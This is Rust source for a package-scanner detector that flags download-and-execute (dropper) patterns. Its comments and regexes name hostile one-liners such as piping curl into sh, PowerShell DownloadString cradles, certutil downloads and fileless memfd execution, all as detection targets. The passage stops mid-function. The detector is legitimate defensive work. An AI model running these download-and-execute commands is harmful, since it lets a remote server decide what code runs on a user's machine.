//! `execution.download-and-execute`: fetched content is run — `exec(urlopen(…)
//! .read())`, `exec(requests.get(…).text)`, a download followed within a few lines
//! by a process start / `os.startfile` / `chmod +x`, or a one-liner string such as
//! `curl … | sh` or `iex (New-Object Net.WebClient).DownloadString(…)`; a body saved to
//! a path (variable or literal, e.g. built with `tempfile`/`os.path.join`) that a later
//! statement runs, however far apart (data flow by name: same function, or a module-level
//! name); a command string or script that downloads and then starts what it saved
//! (`DownloadFile`/`Invoke-WebRequest -OutFile` + `Start-Process`, `certutil -urlcache`
//! / `bitsadmin /transfer` then the `.exe`, `curl -o x && chmod +x x && ./x`); a download
//! saved by a helper function that returns the path, run by its caller (`p = fetch(u)` then
//! `Popen([p])`, or `Popen([fetch(u)])`), by any interpreter (`java -jar`, `node`, `perl`…);
//! a decoded payload written to a path that is then run (decode, write, run); a command read
//! from a response and run (`job = requests.get(u).json()` then `getoutput(job['cmd'])`: a
//! remote command loop; also a command read from a socket or WebSocket, `cmd = ws.recv()`); a
//! shell running a fetch's output by command substitution (`bash -c "$(curl …)"`); an in-memory
//! file (`memfd_create`) run through `/proc/self/fd` or `fexecve` (fileless execution); a
//! response body bound to a name that `exec`/`eval` then runs (`code = urlopen(u).read()` …
//! `exec(code)`, in the same function, at module level or in a class body); `pip install` of a
//! package given as a URL (an archive or a VCS link, not an index) from code or a command
//! string: the fetched package's build code runs (High, weighed by place). Command
//! strings shown to a person (help text, `print`, log lines, judged from where the literal
//! opens, so a help or epilog text spanning lines too) are not
//! commands.
//!
//! Python code only for calls; strings for one-liners. Never skipped (this is the
//! dropper pattern itself) but capped by place (`context`): tests/docs/CI medium,
//! scripts not run at install high, data files and web assets low.

use super::context;
use super::net_downloads_file::{command_ranges, FETCH_API};
use super::pysrc::{self, Kind, Source, MAX_HITS_PER_FILE};
use super::sinks::{self, SinkKind};
use crate::model::{Category, FileRole, Severity};
#[cfg(test)]
use crate::scan::detector::call_starts;
use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
use aho_corasick::AhoCorasick;
use regex::Regex;
use std::sync::LazyLock;

pub(crate) static META: DetectorMeta = DetectorMeta {
    id: "execution.download-and-execute",
    revision: 6,
    title: "Downloads and executes code.",
    category: Category::Execution,
    severity: Severity::Critical,
    description: "Running code fetched at run or install time is the dropper pattern: what runs is decided by a server, not by the package.",
};

/// exec/eval whose argument fetches.
const EXEC_FETCH_PATTERN: &str = r"(?:^|[^.\w])(?P<name>exec|eval)\s*\((?:[^()\n]|\([^()\n]*\))*?(?:urlopen|urlretrieve|requests\.get|requests\.request|httpx\.get|urllib\w*\.request|\.getresponse\()";
static EXEC_FETCH: LazyLock<Regex> = LazyLock::new(|| Regex::new(EXEC_FETCH_PATTERN).expect("exec fetch"));
/// [`EXEC_FETCH`] for anchored searches ([`pysrc::find_at_starts`]).
static EXEC_FETCH_AT: LazyLock<regex_automata::meta::Regex> =
    LazyLock::new(|| regex_automata::meta::Regex::new(EXEC_FETCH_PATTERN).expect("exec fetch"));
/// Pipes from a downloader into an interpreter, or PowerShell download cradles.
const PIPE_PATTERN: &str = r"(?i)(?-u:\b)(?:curl|wget)(?-u:\b)[^\n|'\x22]*\|\s*(?:sudo\s+)?(?:ba|z)?sh(?-u:\b)|(?-u:\b)(?:curl|wget)(?-u:\b)[^\n|'\x22]*\|\s*python[\d.]*(?-u:\b)|(?-u:\b)(?:iex|invoke-expression)\s*[ \t(][^\n]{0,40}(?:downloadstring|invoke-webrequest|iwr)(?-u:\b)|(?-u:\b)downloadstring\s*\([^\n]{0,200}\)\s*\|\s*iex(?-u:\b)";
static PIPE: LazyLock<Regex> = LazyLock::new(|| Regex::new(PIPE_PATTERN).expect("pipe"));
/// [`PIPE`] for anchored searches ([`pysrc::find_at_starts`]).
static PIPE_AT: LazyLock<regex_automata::meta::Regex> =
    LazyLock::new(|| regex_automata::meta::Regex::new(PIPE_PATTERN).expect("pipe"));
/// Words every [`PIPE`] match contains (ASCII case-insensitively), then the words every
/// [`DROP_RUN`] match contains that are not already in the first list: in text without one
/// (in its lowercased copy, [`TextFile::ascii_lowercase`]), the case-insensitive regex (whose
/// search visits most bytes) cannot match and is skipped. Text without that copy (it holds `ſ`
/// or the Kelvin sign) is always searched. One automaton for both gates: the text is searched once.
const GATE_WORDS: &[&str] = &[
    "curl",
    "wget",
    "iex",
    "invoke-expression",
    "downloadstring",
    ".downloadfile",
    "invoke-webrequest",
    "iwr",
    "start-bitstransfer",
    "certutil",
    "bitsadmin",
];
/// [`GATE_WORDS`] `[..PIPE_WORDS]` gate [`PIPE`]; `curl`, `wget` and `[PIPE_WORDS..]` gate [`DROP_RUN`].
const PIPE_WORDS: usize = 5;
static GATES: LazyLock<AhoCorasick> = LazyLock::new(|| pysrc::gate(GATE_WORDS));

/// Whether [`PIPE`] and [`DROP_RUN`] may match the member: false when its
/// lowercased text ([`TextFile::ascii_lowercase`], shared with the other gates) holds none
/// of their words (one search for both).
fn may_match(file: &TextFile<'_>) -> (bool, bool) {
    let Some(lower) = file.ascii_lowercase() else {
        return (true, true);
    };
    let (mut pipe, mut drop) = (false, false);
    // Resumed one byte after each match start: no word is a prefix of another, so every
    // occurrence of every word is seen (a leftmost search keeps the literal prefilter).
    let mut input = aho_corasick::Input::new(lower);
    while let Some(m) = GATES.find(input.clone()) {
        let i = m.pattern().as_usize();
        pipe |= i < PIPE_WORDS;
        drop |= !(2..PIPE_WORDS).contains(&i);
        if pipe && drop || m.start() + 1 >= lower.len() {
            break;
        }
        input.set_start(m.start() + 1);
    }
    (pipe, drop)
}

/// `PIPE.find_iter(text)`'s ranges: every match starts with one of [`GATE_WORDS`]`[..PIPE_WORDS]`
/// ([`pysrc::find_at_words`]).
fn pipe_ranges(file: &TextFile<'_>) -> Vec<(usize, usize)> {
    static STARTS: LazyLock<AhoCorasick> = LazyLock::new(|| pysrc::gate(&GATE_WORDS[..PIPE_WORDS]));
    pysrc::find_at_words(&PIPE_AT, &PIPE, file, &STARTS)
}

/// Running or making executable what was saved.
static RUN_SAVED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u:\b)os\.(?:startfile|chmod\s*\([^)\n]*0o?7[0-7][0-7])|(?-u:\b)stat\.S_IEXEC(?-u:\b)")
        .expect("run saved")
});
/// A download and a run in one command string or script: PowerShell `DownloadFile` /
/// `Invoke-WebRequest -OutFile` then `Start-Process`, `certutil -urlcache` / `bitsadmin
/// /transfer` then the file, `curl -o x && ./x`.
const DROP_RUN_PATTERN: &str = r#"(?i)(?:\.downloadfile\s*\(|invoke-webrequest(?-u:\b)[^\n]*-outfile|(?-u:\b)iwr\s[^\n]*-outfile|start-bitstransfer|certutil(?:\.exe)?\s+-urlcache|bitsadmin(?:\.exe)?\s+/transfer|(?-u:\b)curl\s[^\n]*\s-o\s*[^\s'"]+|(?-u:\b)wget\s[^\n]*\s-O\s*[^\s-][^\s'"]*)[\s\S]{0,300}?(?P<run>start-process|(?-u:\b)saps\s|invoke-item|(?:&&|;|\n)\s*(?:start\s+[^\s'"]+|[^\s'"]+\.exe|(?:ba|z)?sh\s+[^\s'"]+|python[\d.]*\s+[^\s'"]+|\.?/[^\s'"]+))"#;
static DROP_RUN: LazyLock<Regex> = LazyLock::new(|| Regex::new(DROP_RUN_PATTERN).expect("drop run"));
/// [`DROP_RUN`] for anchored searches ([`pysrc::find_at_words`]).
static DROP_RUN_AT: LazyLock<regex_automata::meta::Regex> =
    LazyLock::new(|| regex_automata::meta::Regex::new(DROP_RUN_PATTERN).expect("drop run"));
/// Words every [`DROP_RUN`] match starts with (case-insensitively): `curl`, `wget` and
/// [`GATE_WORDS`]`[PIPE_WORDS..]`.
static DROP_WORDS: LazyLock<AhoCorasick> = LazyLock::new(|| {
    pysrc::gate(&GATE_WORDS[..2].iter().chain(&GATE_WORDS[PIPE_WORDS..]).copied().collect::<Vec<_>>())
});

/// `DROP_RUN.captures_iter(text)`, confirmed at the words its matches start with.
fn drop_runs<'t>(file: &TextFile<'t>) -> impl Iterator<Item = regex::Captures<'t>> {
    let text = file.text;
    pysrc::find_at_words(&DROP_RUN_AT, &DROP_RUN, file, &DROP_WORDS)
        .into_iter()
        .filter_map(move |(start, _)| DROP_RUN.captures_at(text, start))
}
/// Where a downloaded body is saved: the path argument of a save call or of a
/// write-mode `open`, as an identifier or a string literal.
static SAVED_TO: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?:urlretrieve|wget\.download|download_url_to_file|\.download_file)\s*\([^,()\n]+(?:\([^()\n]*\))?[^,()\n]*,\s*(?:out\s*=\s*)?(?P<a>[A-Za-z_][\w.]*|'[^'\n]+'|"[^"\n]+")|open\s*\(\s*(?P<b>[A-Za-z_][\w.]*|'[^'\n]+'|"[^"\n]+")\s*,\s*(?:mode\s*=\s*)?['"][wa]b?\+?['"]|(?P<c>[A-Za-z_][\w.]*)\.write_bytes\s*\("#)
        .expect("saved to")
});
/// Text shown to a person (help, printed hints, log lines), not a command that runs.
static SHOWN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?:print|echo|secho|info|warning|warn|debug|error)\s*\(|(?:help|description|epilog|usage|msg|message)\s*=",
    )
    .expect("shown")
});
const WINDOW_LINES: usize = 30;
/// A new function or class starts: the download and the run are unrelated.
const NEW_BLOCK_PATTERN: &str = r"\n[ \t]*(?:async[ \t]+)?(?:def|class)[ \t]";
/// The whole-text search [`new_block_starts`] is tested equal to.
#[cfg(test)]
static NEW_BLOCK: LazyLock<Regex> = LazyLock::new(|| Regex::new(NEW_BLOCK_PATTERN).expect("new block"));
/// [`NEW_BLOCK_PATTERN`] for anchored searches at [`new_block_starts`].
static NEW_BLOCK_AT: LazyLock<regex_automata::meta::Regex> =
    LazyLock::new(|| regex_automata::meta::Regex::new(NEW_BLOCK_PATTERN).expect("new block"));

/// Where a [`NEW_BLOCK_PATTERN`] match can start: the newline before a line holding `def` or `class`
/// (a match is that newline, blanks, maybe `async`, then the word), ascending.
fn new_block_starts(text: &str) -> Vec<usize> {
    let b = text.as_bytes();
    let mut starts: Vec<usize> =
        pysrc::occurrences(b, &["def", "class"]).into_iter().filter_map(|p| memchr::memrchr(b'\n', &b[..p])).collect();
    starts.dedup(); // ascending already: occurrences are
    starts
}

/// A command whose URL (starting right after `://`) is the local machine:
/// `curl http://localhost:4000/health` checks a server, it downloads nothing.
fn to_loopback(rest: &str) -> bool {
    let host = rest.split(['/', ':', ' ', '\'', '"', '\n']).next().unwrap_or("");
    matches!(host, "localhost" | "127.0.0.1" | "0.0.0.0") || rest.starts_with("[::1]")
}

pub(crate) struct DownloadExecute;

impl Detector for DownloadExecute {
    fn meta(&self) -> &'static DetectorMeta {
        &META
    }
    fn interest(&self) -> Interest {
        Interest::Literals(&[
            "urlopen",
            "urlretrieve",
            "requests",
            "httpx",
            "curl",
            "wget",
            "DownloadString",
            "downloadstring",
            "DownloadFile",
            "iex",
            "IEX",
            "Invoke-Expression",
            "Invoke-WebRequest",
            "invoke-webrequest",
            "iwr",
            "certutil",
            "bitsadmin",
            "Start-BitsTransfer",
            "download_file",
            "download_url_to_file",
            // A command read from a connection ([`FETCHED_NAME`]); an in-memory executable ([`FILELESS`]).
            ".recv(",
            "memfd_create",
            // Decode, write, run ([`DECODED_WRITE`]).
            "b64decode",
            "b85decode",
            "b32decode",
            "decodebytes",
            "fromhex",
            "unhexlify",
            // `pip install` of a package URL ([`pip_installs_from_url`]).
            "pip install",
            "'install'",
            "\"install\"",
            "pip.main",
        ])
    }
    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
        if file.role == FileRole::Metadata {
            return;
        }
        // Tests/docs/CI medium, scripts not run at install high, data and web assets low.
        let sev = Some(context::cap(file, Severity::Critical));
        let src = file.source();
        let mut n = 0;
        let mut push = |hits: &mut Hits, off: usize, ind: &str| {
            if n < MAX_HITS_PER_FILE {
                n += 1;
                hits.push(&META, Hit { severity: sev, evidence: pysrc::evidence(file, off, ind) });
            }
        };
        // In Python, a command string counts when it is not text shown to a person
        // (a CLI's `curl … | sh` install hint in help or a print), judged from where the
        // string literal opens: a help or epilog text spanning lines (`epilog=dedent("""…`)
        // is shown text on every line.
        let shown = |o: usize| {
            let o = src.span_at(o).filter(|s| s.kind == Kind::Str).map_or(o, |s| s.start);
            let ls = file.text[..o].rfind('\n').map_or(0, |p| p + 1);
            SHOWN.is_match(&file.text[ls..o])
        };
        let (may_pipe, may_drop) = may_match(file);
        let pipes = may_pipe.then(|| pipe_ranges(file));
        for (start, end) in pipes.into_iter().flatten() {
            if !src.python || (src.kind_at(start) == Kind::Str && !shown(start)) {
                let m = &file.text[start..end];
                push(hits, start, m.split_whitespace().next().unwrap_or("").trim_end_matches('('));
            }
        }
        for (start, dl) in substituted_fetches(file.text) {
            if !src.python || (src.kind_at(start) == Kind::Str && !shown(start)) {
                push(hits, start, &format!("$({dl} …) run"));
            }
        }
        let drops = may_drop.then(|| drop_runs(file));
        for c in drops.into_iter().flatten() {
            let (m, run) = (c.get(0).expect("m"), c.name("run").expect("run"));
            let one_string = |a: usize, b: usize| match (src.span_at(a), src.span_at(b)) {
                (Some(x), Some(y)) => x.kind == Kind::Str && x.start == y.start,
                _ => false,
            };
            if !src.python || (one_string(m.start(), m.end() - 1) && !shown(m.start())) {
                let dl = m.as_str().split_whitespace().next().unwrap_or("").trim_start_matches('.');
                let dl = dl.split('(').next().unwrap_or(dl).to_ascii_lowercase();
                let run = run
                    .as_str()
                    .trim_start_matches(['&', ';', '\n', ' ', '\t'])
                    .split_whitespace()
                    .next()
                    .unwrap_or("");
                push(hits, m.start(), &format!("{dl} then {}", run.to_ascii_lowercase()));
            }
        }
        if !src.python {
            return;
        }
        // Every match starts with a call of `exec` or `eval`: without one, skip the search.
        // `EXEC_FETCH.captures_iter(text)`, confirmed only where such a call can start.
        let fetches =
            file.exec_call_starts().map(|at| pysrc::find_at_starts(&EXEC_FETCH_AT, file.text, at.iter().copied()));
        for c in fetches.into_iter().flatten().filter_map(|(start, _)| EXEC_FETCH.captures_at(file.text, start)) {
            let name = c.name("name").expect("name");
            if src.is_code(name.start()) {
                push(hits, name.start(), &format!("{}(fetched)", name.as_str()));
            }
        }
        // Names assigned from a network read: searched at most once, for both of their users.
        let fetched = std::cell::OnceCell::new();
        let fetched = || fetched.get_or_init(|| fetched_names(file));
        if file.exec_call_starts().is_some() {
            fetched_code_run(file, fetched(), &mut |off, ind| push(hits, off, &ind));
        }
        let mut runs: Vec<(usize, String)> =
            sinks::find(src, &[SinkKind::Process]).into_iter().map(|s| (s.offset, s.name.to_string())).collect();
        // `pip install <url>`: High, weighed by place (pushed last, after the Critical hits).
        let pip_urls = pip_installs_from_url(file, &runs);
        runs.extend(
            RUN_SAVED
                .find_iter(file.text)
                .filter(|m| src.is_code(m.start()))
                .map(|m| (m.start(), m.as_str().split('(').next().unwrap_or("").trim().to_string())),
        );
        runs.sort();
        if runs.is_empty() {
            push_pip(file, hits, &pip_urls, n);
            return;
        }
        // A download, then within a few lines a process start or chmod/startfile of it (the
        // downloads are looked for only when something runs: most members start nothing).
        // (offset, needs a write in between): response APIs must be written to disk
        // before they can be run; save APIs and command strings save by themselves.
        let saves: Vec<(usize, bool)> = FETCH_API
            .find_iter(file.text)
            .map(|m| (m.start(), true))
            .chain(memchr::memmem::find_iter(file.text.as_bytes(), "urlretrieve").map(|i| (i, false)))
            .filter(|&(o, _)| src.is_code(o) && !pysrc::is_definition(file.text, o))
            .chain(
                command_ranges(file)
                    .iter()
                    .filter(|&&(start, end)| {
                        src.kind_at(start) == Kind::Str && !to_loopback(&file.text[end..]) && !shown(start)
                    })
                    .map(|&(start, _)| (start, false)),
            )
            .collect();
        // Computed once per file: line starts, function/class starts and writes in code.
        let lines = file.source().lines();
        let line = |o: usize| lines.line(o);
        let blocks: Vec<usize> =
            // `NEW_BLOCK_PATTERN`'s `find_iter(text)`, confirmed only at the lines that name `def` or `class`.
            pysrc::find_at_starts(&NEW_BLOCK_AT, file.text, new_block_starts(file.text))
                .into_iter()
                .map(|(_, end)| end - 1)
                .filter(|&o| src.is_code(o))
                .collect();
        let writes: Vec<usize> = super::net_downloads_file::WRITE
            .find_iter(file.text)
            .map(|m| m.start())
            .filter(|&o| src.is_code(o))
            .collect();
        let within = |v: &[usize], a: usize, b: usize| v.iter().any(|&x| x > a && x < b);
        let mut reported: Vec<usize> = Vec::new();
        for (off, name) in runs.iter().filter(|_| !saves.is_empty()) {
            let (off, name) = (*off, name.as_str());
            let l = line(off);
            let follows = |&(s, needs_write): &(usize, bool)| {
                s < off
                    && l - line(s) <= WINDOW_LINES
                    && !within(&blocks, s, off)
                    && (!needs_write || within(&writes, s, off))
            };
            if saves.iter().any(follows) {
                push(hits, off, &format!("download then {name}"));
                reported.push(off);
            }
        }
        saved_then_run(file, &runs, &reported, &mut |off, ind| push(hits, off, &ind));
        fetched_command_run(file, &runs, fetched(), &mut |off, ind| push(hits, off, &ind));
        for off in fileless_runs(file, &runs) {
            push(hits, off, "in-memory executable (memfd_create) run");
        }
        push_pip(file, hits, &pip_urls, n);
    }
}

/// `pip install` (a process command or `pip.main([...])`) whose argument holds a package URL
/// literal: an archive (`.tar.gz`, `.zip`, `.whl`, …) or a VCS link (`git+https://…`), not an
/// index (`-i`/`--index-url`/`--extra-index-url`/`-f`/`--find-links` take the URL that
/// follows them). Offsets of the calls, with the URL.
static PIP_MAIN: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?-u:\b)(?:pip|pip\._internal(?:\.cli\.main)?)\.main\s*\(").expect("pip main"));
static PACKAGE_URL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)(?P<url>(?:(?:git|hg|svn|bzr)\+)?https?://[^\s'"]+?(?:\.tar\.gz|\.tgz|\.tar\.bz2|\.zip|\.whl|\.egg|\.git(?:@[^\s'"]*)?)?)(?:['"\s#]|$)"#)
        .expect("package url")
});
fn pip_installs_from_url(file: &TextFile<'_>, runs: &[(usize, String)]) -> Vec<(usize, String)> {
    let (src, t) = (file.source(), file.text);
    if !t.contains("install") || !t.contains("pip") {
        return Vec::new();
    }
    let calls =
        runs.iter().map(|(o, _)| *o).chain(PIP_MAIN.find_iter(t).map(|m| m.start()).filter(|&o| src.is_code(o)));
    let mut out = Vec::new();
    for off in calls {
        let open = t[off..].find('(').map_or(t.len(), |p| off + p + 1);
        let arg = pysrc::call_argument(t, open, 600);
        let Some(i) = arg.find("install") else { continue };
        if !arg[..i].contains("pip") && !t[off..open].contains("pip") {
            continue;
        }
        for c in PACKAGE_URL.captures_iter(&arg[i..]) {
            let url = c.name("url").expect("url");
            let u = url.as_str();
            let vcs = u.split("://").next().is_some_and(|scheme| scheme.contains('+'));
            let archive = [".tar.gz", ".tgz", ".tar.bz2", ".zip", ".whl", ".egg"]
                .iter()
                .any(|e| u.len() >= e.len() && u[u.len() - e.len()..].eq_ignore_ascii_case(e));
            // The option right before the URL: an index or a links page is not a package.
            let before = arg[..i + url.start()].trim_end_matches(|c: char| c.is_whitespace() || "'\",[=".contains(c));
            let option = before.rsplit(|c: char| c.is_whitespace() || "'\",[".contains(c)).next().unwrap_or("");
            let index = matches!(option, "-i" | "--index-url" | "--extra-index-url" | "-f" | "--find-links");
            if (vcs || archive) && !index {
                out.push((off, u.to_string()));
                break;
            }
        }
    }
    out
}

/// Reports [`pip_installs_from_url`]'s finds (High, weighed by place) within the file's hit budget.
fn push_pip(file: &TextFile<'_>, hits: &mut Hits, found: &[(usize, String)], mut n: usize) {
    for (off, url) in found {
        if n >= MAX_HITS_PER_FILE {
            return;
        }
        n += 1;
        let sev = Some(context::cap(file, Severity::High));
        let host = url.split("://").nth(1).and_then(|r| r.split('/').next()).unwrap_or(url);
        hits.push(
            &META,
            Hit { severity: sev, evidence: pysrc::evidence(file, *off, format!("pip install from a URL ({host})")) },
        );
    }
}

/// Code fetched into a name and run: `exec`/`eval` (or `exec(compile(…))`) whose argument
/// starts with a name assigned from a network read ([`FETCHED_NAME`]) earlier in the same
/// function, at module level or in a class body (`code = urlopen(u).read()` … `exec(code)`,
/// `exec(body.decode())`).
fn fetched_code_run(file: &TextFile<'_>, names: &[(usize, &str)], push: &mut dyn FnMut(usize, String)) {
    let (src, t) = (file.source(), file.text);
    if names.is_empty() {
        return;
    }
    for s in sinks::find_in(file, &[SinkKind::Exec]) {
        let open = t[s.offset..].find('(').map_or(t.len(), |p| s.offset + p + 1);
        let arg = pysrc::call_argument(t, open, 400).trim_start();
        let lead = arg.strip_prefix("compile(").unwrap_or(arg).trim_start();
        let hit = names.iter().find(|&&(at, v)| {
            at < s.offset
                && lead.starts_with(v)
                && !lead[v.len()..].starts_with(|c: char| c.is_alphanumeric() || c == '_')
                && enclosing_def(src, at) == enclosing_def(src, s.offset)
        });
        if let Some((_, v)) = hit {
            push(s.offset, format!("{}(fetched {v})", s.name));
        }
    }
}

/// The names [`FETCHED_NAME`] assigns in code, with where each is assigned. Searched once per
/// member (both users share it), and only from the lines a match can start on
/// ([`fetched_name_starts`]).
fn fetched_names<'t>(file: &TextFile<'t>) -> Vec<(usize, &'t str)> {
    let src = file.source();
    let text = file.text;
    pysrc::find_at_starts(&FETCHED_NAME_AT, text, fetched_name_starts(text))
        .into_iter()
        .filter_map(|(start, _)| FETCHED_NAME.captures_at(text, start))
        .filter(|c| src.is_code(c.name("f").expect("f").start()))
        .filter_map(|c| c.name("v"))
        .filter(|v| src.is_code(v.start()))
        .map(|v| (v.start(), v.as_str()))
        .collect()
}

/// Literals one of which every [`FETCHED_NAME`] match holds in its `f` group (`urlopen`,
/// `requests.get`, `\w+.get`, `\w+.post`, `requests.request`, `\w+.recv`), on the line of its `=`.
const FETCHED_NAME_WORDS: &[&str] = &["urlopen", ".get", ".post", ".request", ".recv"];

/// Where a [`FETCHED_NAME`] match can start, ascending: a match starts at a line start (`^`), its
/// name on that line, then `\s*` (which may cross lines) and the `=` on the line that holds the
/// call ([`FETCHED_NAME_WORDS`]: `[^=\n][^\n]*?` keeps it on the `=`'s line). So the candidates
/// are each line holding a word, and, when that line is blank up to its first `=`, the lines
/// before it up to and including the first one that holds a byte `\s` cannot be (a printable
/// ASCII byte; other non-ASCII bytes may be Unicode spaces, so the walk goes on over them). A
/// line holding a word is not blank, so each blank run is walked from the one line after it:
/// linear. The words are found with one packed (SIMD) search for the five, resumed at the end of
/// each line it finds one on, so each line is taken once however many words it holds (an
/// automaton restarted after each of the many `.get` cost more on litellm: 58 M instructions;
/// five `memmem` passes cost more than the one search here).
fn fetched_name_starts(text: &str) -> Vec<usize> {
    static WORDS: LazyLock<super::hits::Words> = LazyLock::new(|| super::hits::Words::new(FETCHED_NAME_WORDS));
    let b = text.as_bytes();
    let blank = |s: &[u8]| !s.iter().any(u8::is_ascii_graphic);
    let line_start = |o: usize| memchr::memrchr(b'\n', &b[..o]).map_or(0, |p| p + 1);
    let line_end = |o: usize| memchr::memchr(b'\n', &b[o..]).map_or(b.len(), |p| o + p);
    // The lines holding a word, ascending, each once.
    let mut lines = Vec::new();
    let mut from = 0;
    while let Some(at) = WORDS.find_from(b, from) {
        lines.push(line_start(at));
        from = line_end(at);
    }
    let mut out = lines.clone();
    for &ls in &lines {
        let le = line_end(ls);
        let eq = memchr::memchr(b'=', &b[ls..le]).map_or(le, |p| ls + p);
        if !blank(&b[ls..eq]) {
            continue;
        }
        let mut cur = ls;
        while cur > 0 {
            let prev = line_start(cur - 1);
            out.push(prev);
            if !blank(&b[prev..cur - 1]) {
                break;
            }
            cur = prev;
        }
    }
    out.sort_unstable();
    out.dedup();
    out
}

/// An interpreter or launcher right before a path in a command: `bash <p>`, `['sh', p]`,
/// `sys.executable, p`, `chmod +x <p>`, `cmd /c <p>`, `start <p>`.
static RUNNER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)(?-u:\b)(?:(?:ba|z|c|k)?sh|python[\d.]*|py|pwsh|powershell(?:\.exe)?|cmd(?:\.exe)?\s*/c|wscript|cscript|mshta|rundll32|start|chmod\s+\+?[0-7x]+|sys\.executable|source|javaw?(?:\.exe)?|node|perl|ruby|php|osascript|msiexec)['"]?\s*[,\s]\s*(?:['"][^'"]*['"]\s*,\s*)*['"]?[^,]*$"#)
        .expect("runner")
});

/// Start of the innermost `def` enclosing `off` (by indentation), or `None` at module or
/// class level: the unit a variable name is trusted within.
fn enclosing_def(src: &Source<'_>, off: usize) -> Option<usize> {
    let t = src.text;
    let line_start = |o: usize| t[..o].rfind('\n').map_or(0, |p| p + 1);
    let indent = |ls: usize| t[ls..].len() - t[ls..].trim_start_matches([' ', '\t']).len();
    let mut ls = line_start(off);
    let mut level = indent(ls);
    while ls > 0 {
        ls = line_start(ls - 1);
        let rest = &t[ls..];
        let ind = indent(ls);
        let body = rest[ind..].split('\n').next().unwrap_or("");
        if body.trim().is_empty() || ind >= level || !src.is_code(ls + ind) {
            continue;
        }
        if body.starts_with("def ") || body.starts_with("async def ") {
            return Some(ls);
        }
        level = ind;
        if ind == 0 {
            return None;
        }
    }
    None
}

/// A decoded payload written to a file: `f.write(base64.b64decode(…))`, `zlib.decompress`,
/// `bytes.fromhex`, `binascii.unhexlify`… as the written value.
static DECODED_WRITE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\.write(?:_bytes|_text)?\s*\(\s*(?:[A-Za-z_][\w.]*\.)?(?:b64decode|b32decode|b85decode|a85decode|urlsafe_b64decode|decodebytes|decompress|fromhex|unhexlify)\s*\(")
        .expect("decoded write")
});
/// A name bound to what a function returns: `jar = _pull(url, 'x.jar')`.
static ASSIGNED_CALL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?m)^[ \t]*(?P<v>[A-Za-z_]\w*)\s*=\s*(?:self\.)?(?P<f>[A-Za-z_]\w*)\s*\(").expect("assigned call")
});
/// `def name(` at the start of a line (any indentation).
static DEF_NAME: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^(?:async[ \t]+)?def[ \t]+(?P<f>[A-Za-z_]\w*)\s*\(").expect("def name"));

/// What a run's argument may name as the saved file.
enum Saved<'t> {
    /// A variable assigned the saved path (scoped: same function, or module level).
    Name(&'t str),
    /// A literal path, quotes included (anywhere in the file).
    Literal(&'t str),
    /// A call of a function that saves a download and returns (the path): `fetch(u)` run
    /// directly, anywhere in the file.
    Call(String),
}

/// A file that fetches (or decodes), saves the body to a path (a variable or a literal) and
/// later runs that same path, however far apart: data flow by name. A variable must be
/// written and run in the same top-level function, or be assigned at module level; a literal
/// path may be anywhere in the file. A function that saves a download and returns is a
/// download too: a run of what it returns (`subprocess.Popen([fetch(u)])`, or `p = fetch(u)`
/// then `Popen([p])` in one function) runs the download. Without a fetch, bytes written from
/// a decoder (`f.write(base64.b64decode(…))`) within three lines of opening the path are the
/// payload: decode, write, run.
fn saved_then_run(
    file: &TextFile<'_>,
    runs: &[(usize, String)],
    reported: &[usize],
    push: &mut dyn FnMut(usize, String),
) {
    let src = file.source();
    let t = file.text;
    let fetches =
        FETCH_API.find_iter(t).chain(super::net_downloads_file::SAVE_API.find_iter(t)).any(|m| src.is_code(m.start()));
    let decoded: Vec<usize> = DECODED_WRITE.find_iter(t).map(|m| m.start()).filter(|&o| src.is_code(o)).collect();
    if !fetches && decoded.is_empty() {
        return;
    }
    let lines = file.source().lines();
    let block_of = |o: usize| enclosing_def(src, o);
    let mut saved: Vec<(usize, Saved<'_>)> = SAVED_TO
        .captures_iter(t)
        .filter(|c| src.is_code(c.get(0).expect("m").start()))
        .filter_map(|c| {
            let p = c.name("a").or(c.name("b")).or(c.name("c"))?;
            // Without a fetch in the file, only a path a decoder's output is written to.
            let near = |&d: &usize| d > p.start() && lines.line(d) - lines.line(p.start()) <= 3;
            if !fetches && !decoded.iter().any(near) {
                return None;
            }
            let literal = p.as_str().starts_with(['\'', '"']);
            let s = if literal { Saved::Literal(p.as_str()) } else { Saved::Name(p.as_str()) };
            Some((p.start(), s))
        })
        .collect();
    // Functions (top-level `def`s) that save a download and return something.
    let mut helpers: Vec<&str> = Vec::new();
    if fetches {
        for (at, _) in &saved {
            let Some(d) = block_of(*at) else { continue };
            let Some(c) = DEF_NAME.captures(&t[d..]) else { continue };
            let body_end = pysrc::find_at_starts(&NEW_BLOCK_AT, t, new_block_starts(t))
                .into_iter()
                .map(|(s, _)| s)
                .find(|&s| s > *at && t[s + 1..].starts_with(|c: char| !c.is_whitespace()))
                .unwrap_or(t.len());
            let returns = t[*at..body_end].match_indices("return ").any(|(i, _)| src.is_code(at + i));
            let name = c.name("f").expect("f").as_str();
            if returns && !helpers.contains(&name) {
                helpers.push(name);
            }
        }
        for c in ASSIGNED_CALL.captures_iter(t) {
            let (v, f) = (c.name("v").expect("v"), c.name("f").expect("f"));
            if helpers.contains(&f.as_str()) && src.is_code(v.start()) {
                saved.push((v.start(), Saved::Name(v.as_str())));
            }
        }
        saved.extend(helpers.iter().map(|h| (0, Saved::Call(format!("{h}(")))));
    }
    for (off, name) in runs {
        if reported.contains(off) {
            continue;
        }
        let open = t[*off..].find('(').map_or(t.len(), |p| off + p + 1);
        let arg = pysrc::call_argument(t, open, 400);
        let hit = saved.iter().find(|(at, p)| {
            if *at >= *off {
                return false;
            }
            // (needle, whole word before, whole word after): a call's needle ends with `(`.
            let (needle, bounded, bounded_after) = match p {
                Saved::Name(n) => (*n, true, true),
                Saved::Literal(l) => (l.trim_matches(['\'', '"']), false, false),
                Saved::Call(c) => (c.as_str(), true, false),
            };
            // The saved file is what runs: the program itself, an interpreter's script, or
            // the target of startfile/chmod — not an argument (`git clone URL <path>`).
            let runs_it = |i: usize| {
                let before = &arg[..i];
